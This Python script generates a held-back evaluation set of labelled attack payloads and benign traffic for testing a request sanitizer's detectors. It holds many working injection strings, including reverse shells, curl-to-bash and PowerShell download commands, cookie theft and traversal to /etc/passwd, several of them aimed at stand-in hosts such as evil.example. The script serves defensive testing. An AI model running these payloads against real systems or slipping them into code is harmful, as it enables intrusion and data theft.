#!/usr/bin/env python3
"""The HELD-BACK evaluation set (issue 14): written and committed BEFORE the detectors of issue 14
were tuned, never tuned on, scored once per detector change (scores recorded in
docs/sanitizer.md). Its templates, break-out contexts, encodings and seed differ from the
development set (`generate.py`). Written for Portcullis from public knowledge of the attack
classes and of the documented techniques of attack tools; no corpus or rule set was copied.

Writes heldback.jsonl. Each line: {"label", "kind", "payload"} with the kinds of generate.py plus
  path -> GET /api/v1/items/<payload as is>   (the payload is already URL-safe or encoded)
  xml  -> POST /echo, application/xml, payload is the whole body
Labels: an attack class, "benign" (realistic API traffic) or "tricky" (benign values that look
dangerous: the target for those is zero false positives).
"""
import base64
import json
import random
import urllib.parse

rng = random.Random(20261207)
rows = []


def add(label, kind, payload):
    rows.append({"label": label, "kind": kind, "payload": payload})


def q(s):
    return urllib.parse.quote(s, safe="")


def qplus(s):
    return urllib.parse.quote_plus(s)


def upper_random(s):
    return "".join(c.upper() if rng.random() < 0.4 else c for c in s)


def wrap_json(key, value):
    return json.dumps({"data": {key: value, "page": rng.randint(1, 9)}})


def unicode_json(key, value):
    # Every non-alphanumeric character as a \\u escape: JSON decoders undo it.
    inner = "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04x}" for c in value)
    return '{"%s": "%s"}' % (key, inner)


def spread(label, payloads, keys=("comment", "filter", "name", "value")):
    """Each payload in one context chosen by the seed: query, raw query, form or JSON."""
    for p in payloads:
        how = rng.randrange(6)
        key = rng.choice(keys)
        if how == 0:
            add(label, "query", p)
        elif how == 1:
            add(label, "query_raw", f"{key}={q(p)}&lang=en")
        elif how == 2:
            add(label, "form", p)
        elif how == 3:
            add(label, "json", wrap_json(key, p))
        elif how == 4:
            add(label, "json", unicode_json(key, p))
        else:
            add(label, "query_raw", f"sort=asc&{key}={qplus(p)}")


# --- SQL injection: blind, dialect shapes ----------------------------------------------------
spread("sqli", [
    "7 AND JSON_LENGTH(JSON_ARRAY(1,2))=2",
    "7' AND JSON_EXTRACT('{\"a\":1}','$.a')=1 AND 'q'='q",
    "9 AND (SELECT 4411 FROM (SELECT(SLEEP(4)))abcd)",
    "9) AND 5120=(SELECT 5120 FROM PG_SLEEP(4)) AND (8=8",
    "1'; SELECT pg_sleep(4); --",
    "12 AND username LIKE 'adm%'",
    "12' AND (SELECT substr(password,1,1) FROM users WHERE id=1) LIKE 'a%' AND '1'='1",
    "3 AND (SELECT COUNT(*) FROM (SELECT 1 UNION SELECT 2)t)>1",
    "3 AND 1=(SELECT 1 FROM (SELECT 1)x WHERE 1=(SELECT 1))",
    "1::text",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "1 AND 7=CAST(current_user::text AS integer)",
    "1; SELECT lo_import('/etc/passwd')",
    "1 UNION SELECT lo_get(16400)",
    "5' AND 1=CONVERT(INT,(SELECT @@version))--",
    "5;IF(1=1) WAITFOR DELAY '0:0:4'--",
    "5 AND 4242=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),4)",
    "5' AND BENCHMARK(3000000,SHA1(1)) AND 'k'='k",
    "1 RLIKE SLEEP(3)",
    "x' OR name RLIKE '^a' OR 'y'='z",
    "2 OR (SELECT ASCII(MID(user(),1,1)))>80",
    "2' AND ORD(MID((SELECT IFNULL(CAST(schema_name AS NCHAR),0x20) FROM information_schema.schemata LIMIT 0,1),1,1))>64 AND 'x'='x",
    "-3 UNION ALL SELECT NULL,CONCAT(0x71,0x71),NULL-- -",
    "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)",
    "1 AND UPDATEXML(1,CONCAT(0x2e,(SELECT database())),1)",
    "1' AND 3=3 AND 'f'='f",
    "1) OR (2=2",
    "1 OR 'abc'='abc'",
    "1 AND (SELECT 7 FROM DUAL WHERE 1=1)=7",
    "1 AND EXISTS(SELECT * FROM pg_user)",
    "1'||(SELECT '' FROM dual WHERE 1=1)||'",
    "1 AND 1=(SELECT 1 FROM sqlite_master WHERE type='table' LIMIT 1)",
    "name ASC,(SELECT (CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END))",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "1;DECLARE @q VARCHAR(99);SET @q='x';EXEC(@q)--",
    "1 AND 1=1#comment",
    "' OR 1 -- -",
    "1%' AND 2=2 AND '%'='",
    "abc' + (SELECT TOP 1 name FROM sys.tables) + '",
    "1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))",
])

# --- XSS: sinks without tags, attribute contexts, entity-encoded URIs ------------------------
spread("xss", [
    "alert.call(null,1)",
    "window['al'+'ert'](document.domain)",
    "self['eval']('1+1')",
    "top[\"confirm\"](1)",
    "eval.apply(this,['x'])",
    "Function('return this')()",
    "new Function`alert\\x281\\x29```",
    "prompt.apply(window,[1])",
    "[].constructor.constructor('alert(1)')()",
    "setTimeout('alert(1)',0)",
    "alert`xss`",
    "\" onpointerenter=\"confirm(1)",
    "' onfocusin=print() autofocus '",
    "x\" onanimationstart=alert(1) style=\"animation-name:y",
    "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">go</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">go</a>",
    "<iframe src=\"jav&#x0A;ascript:alert(1)\">",
    "<a href=\"  JaVaScRiPt:void(alert(1))\">",
    "data:text/html,<svg onload=alert(1)>",
    "<object data=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E\">",
    "<img src=x:x onerror=window.onerror=alert;throw 1>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus",
    "<style>@import 'javascript:alert(1)';</style>",
    "javascript:/*--></title></style></textarea></script><svg/onload=+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "\"-alert(1)-\"",
    "';top['ale'+'rt'](1)//",
    "</script><script>eval(atob('YWxlcnQoMSk='))</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<body onpageshow=alert(1)>",
    "<audio src onloadstart=alert(1)>",
    "document.location='https://evil.example/?c='+document.cookie",
    "window.location.href=`javascript:alert(1)`",
    "(alert)(1)",
    "<svg><script>alert&#40;1&#41;</script>",
    "<img src=\"x\" onerror=\"&#x61;lert(1)\">",
])

# --- Command injection: Windows cmd, PowerShell, Unix -----------------------------------------
spread("cmdi", [
    "x & ver",
    "x | type %SYSTEMROOT%\\win.ini",
    "1 & IF EXIST C:\\Windows\\win.ini (echo yes)",
    "1 & for /f %i in ('whoami') do nslookup %i.evil.example",
    "a && echo %USERNAME%",
    "a | c^m^d /c who^ami",
    "| powershell -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AA==",
    "; powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')",
    "& powershell -c Invoke-WebRequest -Uri http://evil.example/x -OutFile x.exe",
    "x; iex (iwr http://evil.example/p.ps1)",
    "a$(id)",
    "b`uname -a`",
    "1;cat${IFS}/etc/hosts",
    "1||cat /etc/group",
    "1 && cat /etc/passwd | base64",
    "1; id | xxd -p",
    "1; ls -la | nc evil.example 9000",
    "2; whoami|base64 -w0",
    "$(curl -fsSL http://evil.example/i.sh|bash)",
    "x;/bin/bash -c 'sh -i >& /dev/tcp/10.9.8.7/9001 0>&1'",
    "x%0Aid",
    "; sleep 7 #",
    "| timeout /t 5",
    "& ping -n 6 127.0.0.1 &",
    "x;python3 -c 'import os;os.system(\"id\")'",
    "x && perl -e 'exec \"/bin/sh\"'",
    "1;echo${IFS}test|base64${IFS}-d|sh",
    "a|dir c:\\",
    "& net user hacker P@ss /add",
    "; rm -rf /tmp/x",
    "x'; nslookup `whoami`.evil.example; '",
    "1;uname${IFS}-a",
    "1 | certutil -urlcache -split -f http://evil.example/x.exe",
    "%0a wget http://evil.example/s -O- | sh",
    "Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"cmd /c calc\"\"\")",
    "<% eval request(\"x\") %>",
])

# --- Path traversal ------------------------------------------------------------------------------
for t in ["../../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fhosts", "%2e%2e%2f%2e%2e%2fwindows%2fsystem.ini",
          "..%5c..%5c..%5cwindows%5cwin.ini", "....//....//etc/group", "..%252f..%252f..%252fetc%252fpasswd",
          "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..\\..\\..\\inetpub\\wwwroot\\web.config"]:
    add("traversal", "query_raw", "template=" + t)
    add("traversal", "path", t)
spread("traversal", ["/proc/self/cwd/app.py", "file:///c:/windows/win.ini", "..//..//..//etc//shadow",
                     "/var/www/../../etc/passwd", "c:\\boot.ini"])

# --- NoSQL: every position ------------------------------------------------------------------------
for p in ["{\"$ne\":null}", "{$gt:\"\"}", "{'$where':'sleep(100)'}", "{\"username\":{\"$regex\":\"^a\"}}",
          "{$nin:[]}"]:
    add("nosql", "path", q(p))
    add("nosql", "query", p)
for n in ["login[$ne]=x", "pw[$regex]=.{1}", "user[$exists]=true", "age[$gte]=0", "q[$where]=1",
          "filter[name][$ne]=a", "id[%24ne]=1", "$where=sleep(100)"]:
    add("nosql", "query_raw", n)
for b in [{"user": "a", "password": {"$ne": "x"}}, {"$or": [{"a": 1}, {"b": 2}]},
          {"name": {"$regex": ".*", "$options": "i"}}, {"q": "'; return true; var x='"},
          {"filter": "{\"$gt\": \"\"}"}, {"$where": "function(){return true}"}]:
    add("nosql", "json", json.dumps(b))
spread("nosql", ["'; return true; var a='", "1'; while(true){} var b='", "this.password.match(/.*/)//",
                 "' || '1'=='1", "db.users.find({})"])

# --- SSTI -----------------------------------------------------------------------------------------
spread("ssti", ["{{ 9 * 9 }}", "${ 31*3 }", "<%= 6*6 %>", "{{ config }}", "{{ range.constructor(\"return global.process\")() }}",
                "#{ 5*5 }", "{{request['application']['__globals__']}}", "${@java.lang.Runtime@getRuntime()}",
                "{php}echo 1;{/php}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}"])

# --- XXE --------------------------------------------------------------------------------------------
xxe_docs = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>',
    '<!DOCTYPE data [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]><data/>',
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [\n  <!ELEMENT foo ANY>\n  <!ENTITY bar PUBLIC "-//x//y" "http://10.0.0.5/z">\n]>\n<foo>&bar;</foo>',
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE s [<!ENTITY x SYSTEM "expect://id">]><soap:Body>&x;</soap:Body></soap:Envelope>',
    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
    '<?xml version="1.0" encoding="UTF-7"?><r>+ADw-script+AD4-</r>',
    '<?xml version="1.0" encoding="UTF-16BE"?><r/>',
    '<!DOCTYPE svg [<!ENTITY  % remote   SYSTEM "ftp://evil.example/x"> %remote; ]>',
    "<!DOCTYPE x [ <!ENTITY % a '<!ENTITY &#x25; b SYSTEM \"file:///x\">'> %a; %b; ]><x/>",
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
]
for d in xxe_docs:
    add("xxe", "xml", d)
    add("xxe", rng.choice(["form", "query"]), d)
    add("xxe", "json", wrap_json("xml", d))

# --- CRLF / response splitting ---------------------------------------------------------------------
for tail in ["Set-Cookie: admin=1", "Location: https://evil.example/", "X-Injected: 1",
             "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK", "Refresh: 0;url=//evil.example"]:
    crlf = rng.choice(["\r\n", "\n", "\r"])
    add("crlf", "query", "en" + crlf + tail)
    add("crlf", "path", "a" + q(crlf + tail))
    add("crlf", "query_raw", "next=%0d%0a" + q(tail))
    add("crlf", "query_raw", "r=%250d%250a" + q(tail))
add("crlf", "path", "%E5%98%8A%E5%98%8DSet-Cookie:x=1")
add("crlf", "query_raw", "u=%u000d%u000aSet-Cookie:%20a=b")
add("crlf", "path", "x%0dContent-Type:text/html")

# --- LDAP injection ----------------------------------------------------------------------------------
spread("ldap", ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "x)(|(password=*))",
                "*)(userPassword=*", "jdoe)(!(cn=*))", "*))%00", "admin*)((|userpassword=*)",
                "*)(mail=*@*", ")(cn=*))(|(cn=*", "(&(uid=admin)(|(uid=*)))", "*(|(objectclass=*))"])

# --- SSI ------------------------------------------------------------------------------------------
spread("ssi", ['<!--#exec cmd="id" -->', '<!--#include virtual="/etc/passwd"-->', "<!--#echo var=\"DOCUMENT_ROOT\"-->",
               '<!--#include file="../web.config" -->', '<!-- #exec cgi="/cgi-bin/x.cgi" -->', '<!--#printenv -->',
               '<!--#config errmsg="x"--><!--#exec cmd="ls"-->', '<!--#set var="x" value="y" -->'])

# --- Mail / IMAP / SMTP command injection -----------------------------------------------------------
spread("mail", ["user@example.com\r\nBcc: victim@example.org", "a@b.c%0ACc:x@evil.example",
                "x\r\nRCPT TO:<v@evil.example>", "hello\r\n.\r\nMAIL FROM:<a@evil.example>",
                "INBOX\r\nA1 LOGOUT", "x\" \r\nA2 SELECT \"INBOX", "t@x.y\nSubject: hi\nContent-Type: text/html",
                "victim@x.org%0D%0ATo:%20a@evil.example", "1 FETCH 1:* (BODY[])\r\nA3 DELETE INBOX",
                "me@x.io\r\nDATA\r\nhi\r\n.\r\nQUIT"])

# --- JNDI / Log4Shell -------------------------------------------------------------------------------
spread("jndi", ["${jndi:ldap://evil.example/a}", "${jndi:rmi://10.0.0.1:1099/x}", "${${lower:j}ndi:${lower:l}dap://e.example/x}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/z}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}",
                "${jndi:dns://${hostName}.evil.example}", "${${upper:j}${upper:n}di:iiop://e.example/}",
                "${j${k8s:k5:-ND}i:ldaps://e.example/a}", "${jndi:${lower:L}${lower:D}AP://x.example/a}",
                "${${date:'j'}${date:'n'}di:ldap://x.example}"], keys=("user_agent", "q", "name", "x_api_version"))
add("jndi", "ua", "Mozilla/5.0 ${jndi:ldap://evil.example/ua}")
add("jndi", "ua", "${${lower:jn}di:ldap://evil.example/b}")

# --- Java: EL, OGNL, SpEL, deserialisation -----------------------------------------------------------
ser = base64.b64encode(bytes.fromhex("aced0005737200116a6176612e7574696c2e48617368536574")).decode()
spread("java", ["%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
                "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "${pageContext.request.getSession().setAttribute('a',1)}",
                "%{#_memberAccess['allowStaticMethodAccess']=true}",
                "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream(),x)",
                "${''.getClass().forName('java.lang.ProcessBuilder')}",
                ser, "aced00057372", "H4sIAAAAAAAAAKtWyk0tLk5MT1WyUlAqS8wpTgUAAP//", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
                "java.lang.Runtime.getRuntime().exec(\"touch /tmp/x\")",
                "new java.lang.ProcessBuilder({'id'}).start()",
                "${applicationScope}", "#{request.getClass().getClassLoader()}",
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"])

# --- PHP code injection ------------------------------------------------------------------------------
spread("php", ["<?php system($_GET['c']); ?>", "<?= `id` ?>", "1;phpinfo();", "system('id');", "passthru(\"ls -la\")",
               "assert(base64_decode('cGhwaW5mbygp'))", "shell_exec($_POST[x])", "php://input", "phar://./uploads/a.gif/x",
               "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
               "a:1:{i:0;O:4:\"Evil\":0:{}}", "preg_replace('/.*/e','system(\"id\")','')", "create_function('','system(1);')",
               "${@eval($_REQUEST[c])}", "call_user_func('system','id')", "file_put_contents('s.php','<?php x')",
               "expect://ls", "include($_GET['p']);", "proc_open('id',[],$p)"])

# --- SSRF: URL-valued parameters ------------------------------------------------------------------------
ssrf_hosts = ["169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]", "2852039166", "0xA9FEA9FE",
              "0251.0376.0251.0376", "127.1", "2130706433", "0x7f000001", "017700000001", "[::ffff:127.0.0.1]",
              "[::1]", "localhost", "0.0.0.0", "10.1.2.3", "192.168.0.1", "172.16.5.4", "[::ffff:a9fe:a9fe]",
              "100.100.100.200", "127.0.0.1.nip.io"]
ssrf_params = ["url", "callback_url", "webhook", "image_url", "redirect_uri", "feed", "target", "dest"]
for h in ssrf_hosts:
    p = rng.choice(ssrf_params)
    path = rng.choice(["/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/", "/admin", "/", ":6379/"])
    add("ssrf", "query_raw", f"{p}={q('http://' + h + path)}")
    add("ssrf", "json", json.dumps({p: "http://" + h + path}))
for u in ["gopher://127.0.0.1:6379/_FLUSHALL", "dict://10.0.0.2:11211/stats", "file:///etc/passwd",
          "http://user@169.254.169.254/", "http://evil.example@127.0.0.1/", "ldap://127.0.0.1/",
          "tftp://10.0.0.1/x", "jar:http://127.0.0.1!/", "http://0/", "http://[0:0:0:0:0:ffff:127.0.0.1]/"]:
    add("ssrf", "query_raw", f"{rng.choice(ssrf_params)}={q(u)}")
    add("ssrf", "json", json.dumps({rng.choice(ssrf_params): u}))

# --- Prototype pollution -----------------------------------------------------------------------------------
for n in ["__proto__[isAdmin]=true", "__proto__.role=admin", "constructor[prototype][admin]=1",
          "constructor.prototype.polluted=1", "a[__proto__][x]=1", "user[constructor][prototype][y]=2",
          "%5F%5Fproto%5F%5F[z]=1", "x.__proto__.shell=/bin/sh"]:
    add("prototype_pollution", "query_raw", n)
for b in ['{"__proto__": {"admin": true}}', '{"user": {"__proto__": {"role": "root"}}}',
          '{"constructor": {"prototype": {"isAdmin": true}}}', '[{"a": 1}, {"__proto__": {"b": 2}}]',
          '{"settings": {"constructor": {"prototype": {"shell": "node"}}}}', '{"\\u005f_proto__": {"x": 1}}']:
    add("prototype_pollution", "json", b)

# --- Session fixation ----------------------------------------------------------------------------------------
for n in ["JSESSIONID=ABCDEF0123456789", "PHPSESSID=attackerchosen1", "ASP.NET_SessionId=abc123xyz",
          "sessionid=fixed0001", "ASPSESSIONIDQQGQQAQA=KJHG", "jsessionid=6A1B2C", "CFID=1234&CFTOKEN=5678",
          "connect.sid=s%3Aabc.def"]:
    add("session_fixation", "query_raw", "next=/home&" + n)
for v in ["<script>document.cookie=\"sid=123; path=/\"</script>", "<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=x\">",
          "javascript:document.cookie='JSESSIONID=AB'"]:
    add("session_fixation", "query", v)

# --- RFI ------------------------------------------------------------------------------------------------------
rfi_params = ["page", "file", "include", "template", "inc", "path", "module", "lang"]
for u in ["http://evil.example/shell.txt?", "https://evil.example/x.php", "ftp://evil.example/a.txt",
          "http://10.0.0.9/backdoor.txt%00", "//evil.example/r57.txt", "http://evil.example/c99.txt?&",
          "https://raw.evil.example/p.php?x=", "http://1.2.3.4/inc"]:
    add("rfi", "query_raw", f"{rng.choice(rfi_params)}={q(u) if rng.random() < .5 else u}")

# --- Benign: realistic API traffic ----------------------------------------------------------------------------
first = ["Anna", "José", "Zoë", "Łukasz", "Mei", "Oluwaseun", "Dmitri", "Aoife", "Søren", "Priya", "Ngozi", "Kenji"]
last = ["O'Neill", "García-López", "Nguyễn", "Müller", "D'Souza", "van der Berg", "Smith", "Kowalski"]
for i in range(160):
    fn, ln = rng.choice(first), rng.choice(last)
    kind = rng.randrange(6)
    if kind == 0:
        add("benign", "json", json.dumps({"first_name": fn, "last_name": ln, "email": f"{fn.lower()}.{i}@example.com",
                                          "age": rng.randint(18, 90), "tags": ["vip", "newsletter"]}, ensure_ascii=False))
    elif kind == 1:
        add("benign", "query_raw", f"page={rng.randint(1,50)}&per_page=25&sort=-created_at&filter[status]=active")
    elif kind == 2:
        add("benign", "json", json.dumps({"order_id": f"ORD-{rng.randint(10000,99999)}", "items": [
            {"sku": f"SKU-{rng.randint(100,999)}", "qty": rng.randint(1, 5), "price": round(rng.random() * 200, 2)}],
            "shipping": {"street": f"{rng.randint(1,300)} Main St.", "city": "Springfield", "zip": "12345"},
            "note": rng.choice(["Leave at the door, please.", "Call me when you're here!", "Gift wrap; it's a surprise :)",
                                "Ring twice - dog barks", "5% discount code: SAVE5"])}))
    elif kind == 3:
        add("benign", "query", rng.choice(["running shoes size 42", "café au lait", "how to reset password?",
                                           "O'Reilly books", "50% off sale", "c++ tutorial", "rock & roll", "1/2 inch pipe",
                                           "where is my order #12345", "\"exact phrase\" search"]))
    elif kind == 4:
        add("benign", "form", rng.choice(["Great product, would buy again!", "Doesn't fit - returning it :(",
                                          "Color: navy/blue; size: M", "Delivery took 3-5 days (as promised).",
                                          "I'd rate it 4/5 — the strap's a bit short."]))
    else:
        add("benign", "json", json.dumps({"event": "page_view", "url": f"https://shop.example.com/p/{rng.randint(1,999)}?ref=home&utm_source=news",
                                          "referrer": "https://www.google.com/search?q=shoes+sale", "ts": 1760000000 + i}))

# --- Tricky benign: looks dangerous, is not ----------------------------------------------------------------------
tricky = [
    "Select your plan, or upgrade to Pro for more seats",
    "Please update your profile and delete old drafts from the trash",
    "Union members select a delegate where the vote is held",
    "The drop in sales from 2019 to 2020 was 12%",
    "1 BY 1 INCH PILLOWS",
    "Order by date, then by name",
    "between 5 and 10 guests",
    "Tom & Jerry; Laurel & Hardy",
    "ls -la shows hidden files; use `grep -r` to search",
    "Run `npm install && npm test` before opening a PR",
    "Pipe the output: cat log.txt | sort | uniq -c",
    "In PowerShell, Get-ChildItem lists files",
    "user+tag@example.com",
    "\"john smith\"@example.org",
    "o'connor+news@mail.example.ie",
    "https://example.com/search?q=a+b&page=2#top",
    "https://api.example.com/v1/users?id=10&fields=name,email",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    base64.b64encode(b"The quick brown fox jumps over the lazy dog, repeatedly and happily.").decode(),
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "# Heading\n\n* item one\n* item `code`\n\n> quote\n\n[link](https://example.com/docs?x=1)",
    "Use **bold** and _italics_; see <https://example.com>",
    "```js\nconst total = items.reduce((a, b) => a + b.price, 0);\nconsole.log(total);\n```",
    "```python\nfor row in rows:\n    print(row['name'])\n```",
    "```sql\n-- count active users\nSELECT count(*) FROM users WHERE active = true;\n```",
    "In Rust, `let x: Vec<u8> = Vec::new();` allocates nothing",
    "if (a < b && c > d) { return a; }",
    "The ratio 3 < 5 > 2 is silly",
    "Dear team, <br> thanks!",
    "Set the header `Content-Type: application/json` on requests",
    "My e-mail: name@example.com, phone +1 (555) 010-9999",
    "Ünïcödé テキスト 中文 عربى עברית русский ελληνικά हिन्दी 한국어",
    "Price: $5 or €4.50 — 20% off!",
    "C:\\Users\\Public\\Documents\\report.docx",
    "/home/user/projects/app/src/main.rs",
    "See ../README.md for details",
    "The function alert() is discouraged in modern UIs",
    "prototype pattern and constructor functions in JavaScript",
    "Email template: Hello {{name}}, your order {{order_id}} shipped",
    "${HOME} is your home directory in shell docs",
    "100% cotton; machine wash at 30°C",
    "We use LDAP (cn=users, dc=example, dc=com) for login",
    "Call us 24/7 & ask for Bob",
    "<3 this product",
    "2+2=4 and 3*3=9",
    "password reset token: 6f1e9c2ab7d54f03",
    "Re: [ticket #443] can't login -- urgent!!!",
    "What's the difference between == and === in JS?",
    "the `eval` function in Python evaluates expressions",
    "I asked: 'is 1=1?' and they laughed",
    "Mix 1 cup flour; 2 eggs & 1/2 cup milk",
    "session timeout is 30 minutes",
    "http://localhost:3000 is the dev server in the README",
    "Put <!-- comments --> in HTML sparingly",
    "Our XML uses <?xml version=\"1.0\" encoding=\"UTF-8\"?> headers",
    "The __init__ method runs on construction",
    "Use `curl -X POST https://api.example.com/v1/items -d @body.json`",
    "javascript is fun; so is typescript",
    "line one\nline two\nline three",
    "Subject: meeting notes",
    "A;B;C;D",
    "x || y means or",
    "Hello, 世界! Привет! مرحبا!",
    "select * from my heart where love = true ❤️",
    "drop me a line at info@example.com",
]
for i, t in enumerate(tricky):
    how = i % 4
    if how == 0:
        add("tricky", "query", t)
    elif how == 1:
        add("tricky", "json", json.dumps({"title": "Question", "body": t, "tags": ["help"]}, ensure_ascii=False))
    elif how == 2:
        add("tricky", "form", t)
    else:
        add("tricky", "json", json.dumps({"comment": {"text": t, "author": "dev42"}}, ensure_ascii=False))
for body in [
    {"question": "Why does `SELECT name FROM users WHERE id = ?` return null?", "code": "cur.execute(\"SELECT name FROM users WHERE id = %s\", (uid,))"},
    {"snippet": "document.getElementById('out').textContent = data.msg;"},
    {"snippet": "<button onClick={() => setCount(count + 1)}>+</button>"},
    {"snippet": "fetch('/api/items').then(r => r.json()).then(setItems)"},
    {"snippet": "for f in *.log; do gzip \"$f\"; done"},
    {"snippet": "find . -name '*.tmp' -delete"},
    {"jwt": "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwczovL2lkLmV4YW1wbGUuY29tIiwiYXVkIjoiYXBpIn0.c2lnbmF0dXJl"},
    {"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"},
    {"webhook_url": "https://hooks.example.com/services/T000/B000/XXXX", "callback_url": "https://app.example.org/cb?state=xyz"},
    {"image_url": "https://cdn.example.net/img/2024/photo.jpg?w=640&h=480"},
    {"redirect_uri": "https://app.example.com/oauth/callback"},
    {"markdown": "## Install\n\n```bash\nsudo apt-get install -y nginx && systemctl enable nginx\n```"},
    {"note": "Use `$gt` and `$lt` operators in MongoDB queries (see docs)"},
]:
    add("tricky", "json", json.dumps(body))

with open("heldback.jsonl", "w", encoding="utf-8") as f:
    for r in rows:
        f.write(json.dumps(r, ensure_ascii=False) + "\n")
counts = {}
for r in rows:
    counts[r["label"]] = counts.get(r["label"], 0) + 1
print(counts)
